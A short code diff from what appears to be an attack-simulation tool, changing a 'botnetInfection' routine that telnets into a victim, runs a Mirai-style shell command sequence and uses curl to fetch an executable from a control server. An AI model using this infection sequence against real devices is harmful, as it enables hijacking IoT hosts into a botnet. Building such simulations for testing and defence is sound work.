@@ -66,7 +66,7 @@ export const botnetInfection: Attack = {
     const ports = portsFor(portsOffset);
     const source = `http://${control.address}:${controlPorts.http}${executablePath}`;
     const load = `curl -s ${curlPorts(ports).join(' ')} -o /dev/null ${source}; echo loaded`;
-    const commands = ['enable', 'sh', '/bin/busybox MIRAI', 'cat /proc/mounts', load];
+    const commands = ['enable', 'system', 'shell', '/bin/busybox MIRAI', 'cat /proc/mounts', load];
     const limit = AbortSignal.any([signal, AbortSignal.timeout(loginSeconds * 1000)]);
     await runProgram(actor, 'telnet-bot', [victim.address, logins, ...commands], limit);
     const time = Math.max(2, seconds * (1 - shareForScan - shareForLogin));
